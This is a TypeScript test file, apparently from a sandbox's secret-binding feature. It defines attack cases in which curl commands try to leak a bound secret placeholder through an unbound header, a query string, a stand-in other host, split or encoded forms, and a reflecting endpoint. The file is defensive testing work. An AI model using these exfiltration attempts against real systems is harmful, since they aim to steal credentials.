import type { EscapeCase } from '../case.ts';
import { escaped, unclear } from '../error.ts';
import { boundSecret, type Field, grantedHost } from '../field.ts';
import type { Run } from '../run.ts';
import { curl, expectStatus } from './egress.ts';

/** Binds the field's secret to one header of the granted host. */
const bound = {
  policy: {
    name: 'bound.yaml',
    text: JSON.stringify({
      version: 1,
      secrets: {
        [boundSecret.name]: {
          source: 'static',
          to: [`https://${grantedHost}`],
          at: { header: 'x-key', form: '{}' },
        },
      },
    }),
  },
} as const;
const placeholder = `cordon:secret:${boundSecret.name}`;

/** The value must be seen neither inside nor by the server under this mark. */
function hidden(field: Field, run: Run, mark: string): void {
  if (`${run.stdout}${run.stderr}`.includes(boundSecret.value)) throw escaped('the value was seen inside');
  const sent = field.granted.requests.filter((request) => request.target.includes(mark));
  if (JSON.stringify(sent.map(({ target, rawHeaders }) => [target, rawHeaders])).includes(boundSecret.value))
    throw escaped('the value was put where it is not bound');
}

function misplaced(name: string, statuses: readonly number[], mark: string, attack: string): EscapeCase {
  return {
    name,
    stop: 'the binding of the secret',
    options: bound,
    attack: () => `echo tried; ${attack}`,
    judge: (field, run) => {
      expectStatus(run, statuses);
      hidden(field, run, mark);
    },
  };
}

/** Getting at a value of which only the name is known inside. */
export const secretCases: readonly EscapeCase[] = [
  misplaced(
    'a placeholder in a header that it is not bound to',
    [403],
    'other-header',
    curl(`-H 'x-other: ${placeholder}' https://${grantedHost}/open/other-header`),
  ),
  misplaced(
    'a placeholder in the query',
    [403],
    'in-query',
    curl(`'https://${grantedHost}/open/in-query?key=${placeholder}'`),
  ),
  misplaced(
    'a placeholder for another host',
    [403],
    'other-host',
    curl(`-H 'x-key: ${placeholder}' https://other.example/open/other-host`),
  ),
  misplaced(
    'a placeholder that is split or encoded',
    [200, 400, 403],
    'in-parts',
    curl(
      `-H 'x-key: cordon%3Asecret%3A${boundSecret.name}' -H 'x-part: cordon:secret:' -H 'x-rest: ${boundSecret.name}' https://${grantedHost}/open/in-parts`,
    ),
  ),
  {
    name: 'a secret that the server gives back',
    stop: 'scrubbing of answers',
    options: bound,
    attack: () =>
      `echo tried; curl -s -S -m 10 -i -H 'x-key: ${placeholder}' 'https://${grantedHost}/open/reflect?mark=given-back'`,
    judge: (field, run) => {
      const sent = field.granted.requests.find((request) => request.target.includes('given-back'));
      if (sent?.headers['x-key'] !== boundSecret.value)
        throw unclear(`the secret was not put in: ${run.stdout}${run.stderr}`);
      if (run.stdout.includes(boundSecret.value)) throw escaped('the value was seen inside');
    },
  },
];
